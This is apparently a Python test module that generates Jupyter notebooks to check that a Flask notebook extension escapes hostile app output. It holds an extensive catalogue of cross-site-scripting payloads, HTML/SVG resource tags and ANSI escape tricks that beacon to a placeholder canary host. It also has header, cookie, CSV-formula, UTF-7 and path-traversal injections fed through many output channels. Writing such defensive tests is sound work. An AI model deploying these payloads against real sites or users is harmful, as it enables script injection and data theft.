"""Cells in which an app says hostile things, by everything that it can say."""

# ruff: noqa: E501 - what is hostile is on one line

from __future__ import annotations

from dataclasses import dataclass

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_notebook

__all__ = ["CELLS", "Cell", "control", "notebook", "shown_as"]

# CANARY is the server that must not hear of it, WHERE the source that said it.
SCRIPT = (
    "top.pwned=parent.pwned=window.pwned='pwned WHERE';document.title='pwned';localStorage.setItem('pwned','pwned WHERE');"
    "console.log('pwned WHERE');new Image().src='CANARY/WHERE/script';alert('WHERE')"
)
#: Short enough for a header, a name, a message; what has to be seen as text comes first.
SHORT = (
    f'<b>hostile-WHERE</b>"\'><script>{SCRIPT}</script><img src=CANARY/WHERE/img onerror="{SCRIPT}">'
    f'<svg onload="{SCRIPT}"></svg><iframe srcdoc="<script>{SCRIPT}</script>"></iframe>'
)
#: All that a page can call out with.
PAGE = f"""<!doctype html><html><head><base href="CANARY/WHERE/base/">
<meta http-equiv="refresh" content="0;url=CANARY/WHERE/refresh"><link rel="stylesheet" href="CANARY/WHERE/link">
<link rel="prefetch" href="CANARY/WHERE/prefetch"><link rel="preload" as="image" href="CANARY/WHERE/preload">
<link rel="dns-prefetch" href="CANARY"><link rel="icon" href="CANARY/WHERE/icon">
<style>@import "CANARY/WHERE/import"; body, * {{ background: url(CANARY/WHERE/style) }}
@font-face {{ font-family: x; src: url(CANARY/WHERE/font) }} p {{ font-family: x }}</style>
<script src="CANARY/WHERE/src"></script></head><body onload="{SCRIPT}">
{SHORT}
<form id="f" action="CANARY/WHERE/form" target="_top"><input name="a" autofocus onfocus="{SCRIPT}"></form>
<script>document.getElementById('f').submit()</script>
<a id="a" href="javascript:{SCRIPT}">a link</a><script>document.getElementById('a').click()</script>
<iframe src="CANARY/WHERE/iframe"></iframe><object data="CANARY/WHERE/object"></object><embed src="CANARY/WHERE/embed">
<video autoplay src="CANARY/WHERE/video" poster="CANARY/WHERE/poster" onerror="{SCRIPT}"></video>
<audio autoplay src="CANARY/WHERE/audio"></audio><img srcset="CANARY/WHERE/srcset 1x"><input type="image" src="CANARY/WHERE/input">
<svg><image href="CANARY/WHERE/svg" /><use href="CANARY/WHERE/use#x" /><animate onbegin="{SCRIPT}" attributeName="x" dur="1s" />
</svg><math><mtext><style><img src=x onerror="{SCRIPT}"></style></mtext></math><template><script>{SCRIPT}</script></template>
<table background="CANARY/WHERE/table"><tr><td></td></tr></table><details open ontoggle="{SCRIPT}">x</details>
<marquee onstart="{SCRIPT}">x</marquee><p style="background: url(CANARY/WHERE/inline)">text</p></pre></code></section></div>
</iframe><script>{SCRIPT}</script></body></html>"""
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" onload="{SCRIPT}">
<script>{SCRIPT}</script><image href="CANARY/WHERE/image" width="9" height="9"/><use xlink:href="CANARY/WHERE/use#a"/>
<style>@import "CANARY/WHERE/import";</style><rect width="40" height="40" fill="url(CANARY/WHERE/fill)"/>
<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="CANARY/WHERE/foreign"/></foreignObject></svg>"""
ANSI = "\\x1b]8;;javascript:alert(1)\\x07<b>hostile-WHERE</b>\\x1b]8;;\\x07\\x1b[2J\\x1b[31mred\\x1b]0;pwned\\x07\\r\\x08\\x9b31m"

SETUP = """\
import logging, warnings
import flask
app = flask.Flask("shop")
app.secret_key = "dev"
"""


@dataclass(frozen=True)
class Cell:
    """One cell. `{short}`, `{page}`, `{svg}` and `{ansi}` in it are names of variables that hold the hostile text.

    `where` names the source; its text has to be seen, as text, unless `seen` is False (a picture holds it).
    """

    where: str
    source: str
    seen: bool = True


def _answers(where: str, answer: str, line: str = "", *, seen: bool = True) -> Cell:
    """A view that gives this answer, and a request for it."""
    view = f"@app.get('/{where}')\ndef {where}():\n    {answer}\n"
    return Cell(where, view + (line or f"%http /{where}"), seen)


#: In this order; a new display needs a cell here.
CELLS = [
    _answers("html", "return page"),
    _answers("fragment", "return short"),
    _answers("xhtml", "return flask.Response(page, mimetype='application/xhtml+xml')"),
    _answers("picture", "return flask.Response(svg, mimetype='image/svg+xml')", seen=False),
    _answers("imagetype", "return flask.Response(b'x', content_type='image/png' + short)"),
    _answers("imagehtml", "return flask.Response(page, content_type='image/svg+xml')", seen=False),
    _answers("xml", "return flask.Response(page, mimetype='application/xml')"),
    _answers("json", "return {short: [short, {'page': page, short: None}], 'more': 'x' * 90}"),
    _answers("brokenjson", "return flask.Response('{' + page, mimetype='application/json')"),
    _answers("csv", "return flask.Response(f'{short},b\\n\"{short}\",=cmd', mimetype='text/csv')"),
    _answers("text", "return flask.Response(page, mimetype='text/plain')"),
    _answers("script", "return flask.Response(page, mimetype='text/javascript')"),
    _answers("css", "return flask.Response(page, mimetype='text/css')"),
    _answers("binary", "return flask.Response(b'\\0' + page.encode(), mimetype='text/html')", seen=False),
    _answers("encoded", "return flask.Response(page.encode('utf-7'), content_type='text/html; charset=utf-7')"),
    _answers("charset", "return flask.Response(page, content_type='text/html; charset=\"' + short)"),
    _answers("contenttype", "return flask.Response('x', content_type=short)"),
    _answers("chunks", "return flask.Response(iter([short, page[:70], page[70:]]), mimetype='text/html')"),
    _answers("sandbox", "return '</iframe>\"></iframe>' + page + '\" sandbox=\"allow-scripts\" x=\"'"),
    _answers("ansi", "return flask.Response(ansi, mimetype='text/plain')", seen=False),
    _answers("ansiheader", "return 'x', 200, {'X-A': ansi.replace('\\r', '')}"),
    _answers("header", "return 'x', 200, {'X-Hostile': short, short.replace(':', ''): short}"),
    _answers("reason", "return flask.Response('x', status='200 ' + short)"),
    _answers("filename", "return 'x', 200, {'Content-Disposition': f'attachment; filename=\"{short}\"'}"),
    _answers("cookie", "return 'x', 200, {'Set-Cookie': 'a=1; Path=/' + short}"),
    _answers("location", "return flask.Response('x', 302, {'Location': '/html?' + short})", seen=False),
    _answers("rawlocation", "made = flask.Response('x', 302, {'Location': '/' + short})\n"
             "    made.autocorrect_location_header = False; made.location = short; return made", seen=False),
    _answers("followed", "return flask.redirect('/html?' + short)", "%http --follow /followed", seen=False),
    _answers("redirect", "return flask.redirect('javascript:' + short)", seen=False),
    _answers("abort", "flask.abort(404, description=short)"),
    _answers("flashed", "flask.flash(short); return flask.render_template_string('{{ get_flashed_messages()[0] | safe }}')"),
    _answers("template", "return flask.render_template_string(page)"),
    _answers("templatename", "return flask.render_template(short)"),
    _answers("templatesyntax", "return flask.render_template_string('{% ' + short)"),
    _answers("error", "error = ValueError(short); error.add_note(page); raise error"),
    _answers("error500", "error = ValueError(short); error.add_note(page); raise error", "%http /error500 --expect 500"),
    _answers("errortype", "raise type(short.replace('\\0', ''), (Exception,), {})(page)"),
    _answers("errortype500", "raise type(short, (Exception,), {})(page)", "%http /errortype500 --expect 500"),
    Cell("errorcause", "@app.get('/errorcause')\ndef errorcause():\n    try: raise KeyError(short)\n"
         "    except KeyError as error: raise ValueError(short) from error\n%http /errorcause"),
    _answers("ansierror", "raise ValueError(ansi)"),
    _answers("httperror", "from werkzeug.exceptions import BadRequest; raise BadRequest(short, flask.Response(page))"),
    _answers("log", "app.logger.warning(page); logging.getLogger(short).error('%s', short); return 'x'"),
    _answers("level", "logging.addLevelName(35, short); app.logger.log(35, ansi); return 'x'"),
    Cell("url", "%http '/fragment?q={{short}}'"),
    Cell("path", "%http '/{{short}}'"),
    Cell("query", "%http /fragment 'q=={{short}}'"),
    Cell("client", "%http /fragment --as '{{name}}'"),
    Cell("two", "%http /fragment --as '{{name}}' --as bob"),
    Cell("host", "%http 'http://{{short}}/'", seen=False),
    Cell("unexpected", "%http '/text?q={{short}}' --expect 418"),
    Cell("option", "%http /text '--<b>hostile-option</b>'"),
    Cell("register", "app.add_url_rule('/x\"&lt;b&gt;', '<b>hostile-routes</b>' + short, lambda: 'x')", seen=False),
    Cell("routes", "%flask_routes"),
    Cell("route", "%%flask_route '/route\"&lt;' --endpoint '{{short}}'\ndef route(): return 'x'"),
    Cell("replaced", "%%flask_route /replaced --endpoint '{{short}}' --try '/replaced?{{name}}'\ndef other(): return 'x'"),
    Cell("match", "%flask_routes --match '/{{short}}'"),
    Cell("matched", "@app.get('/matched/<path:name>')\ndef matched(name): ...\n%flask_routes --match '/matched/{{short}}'"),
    Cell("appname", "other = flask.Flask(short, root_path='.')\n%flask_app --list\ndel other"),
    Cell("choose", "%flask_app '{{short}}'"),
    Cell("file", "%%flask_file 'templates/{{name}}.html'\n{{ x }}"),
    Cell("outside", "%%flask_file '../{{name}}'\n{{ x }}"),
    Cell("cli", "import click\n@app.cli.command()\ndef say(): click.echo(page); click.echo(ansi); raise ValueError(short)\n%flask_cli say"),
    Cell("cliwords", "%flask_cli --expect 2 '{{short}}'"),
    Cell("check", "%%flask_check '{{name}}'\n# hint: <b>hostile-hint</b><img src=x onerror=alert(1)>\n"
         "assert False, short\nassert page == short\nassert client.get('/error').json['x'], page\nclient.get('/x').json[short]"),
    Cell("variable", "globals()[short] = flask.Flask('x', root_path='.')\n%flask_app --list\ndel globals()[short]"),
    Cell("process", "%flask_process web {python} -c \"print('''{{short}}''', flush=True); import time; time.sleep(99)\""),
    Cell("processlog", "%flask_process web --log", seen=False),
    Cell("processfails", "%flask_process bad {python} -c \"exit('''{{name}}''')\""),
    Cell("stop", "%flask_process --stop", seen=False),
    Cell("trace", "%flask_trace '/template?{{short}}'"),
    Cell("traced", "@app.before_request\ndef before(): flask.session['hostile'] = short; flask.flash(short)\n"
         "%http '/fragment?{{short}}' --trace -q"),
    Cell("tracederror", "%flask_trace /errortype500"),
    Cell("curl", "%http POST '/json?{{short}}' 'X-A:{{name}}' 'a={{short}}' --curl"),
    Cell("clients", "%flask_clients", seen=False),  # it shows the names from above
    Cell("history", "%flask_history", seen=False),
    Cell("replay", "answer = page\n@app.get('/replay')\ndef replay(): return answer, 200, {'X-A': answer[:20]}\n"
         "%http '/replay?{{name}}' -q\nanswer = short\n%flask_replay --diff"),
    Cell("advice", "@app.get('/advice')\ndef advice(): return flask.url_for('fragmen' + short)\n%http /advice"),
]  # fmt: skip


def shown_as(where: str) -> str:
    """What a reader has to see of a source: its markup as text."""
    return f"<b>hostile-{where}</b>"


def _said(cell: Cell, canary: str) -> str:
    """The variables that a cell speaks of, with its own words."""
    texts = {"short": SHORT, "page": PAGE, "svg": SVG, "name": "<b>hostile-WHERE</b><img src=x onerror=alert(1)>"}
    lines = [
        f"{name} = {text.replace('WHERE', cell.where).replace('CANARY', canary)!r}" for name, text in texts.items()
    ]
    return "\n".join([*lines, f'ansi = "{ANSI.replace("WHERE", cell.where)}"'])


def notebook(canary: str) -> NotebookNode:
    """The notebook: before each cell one that sets what it speaks of, without any output."""
    cells = [new_code_cell("%load_ext flask_magic"), new_code_cell(SETUP)]
    for cell in CELLS:
        cells += [new_code_cell(_said(cell, canary)), new_code_cell(cell.source)]
    return _of(cells)


def control(canary: str) -> NotebookNode:
    """A notebook that does call out, as its reader asks it to: by an output of IPython's, not by one of the magics."""
    shown = "from IPython.display import HTML, display\n"
    html = f"<img src='{canary}/control/img'><p>control</p>"
    script = f"<script>console.log('pwned control'); fetch('{canary}/control/script')</script>"
    return _of([new_code_cell(f"{shown}display(HTML({html + script!r}))")])


def _of(cells: list[NotebookNode]) -> NotebookNode:
    for cell in cells:
        cell.metadata.tags = ["raises-exception"]  # the cells after it run all the same
    kernel = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}
    made = new_notebook(cells=cells, metadata=kernel)
    nbformat.validate(made)
    return made
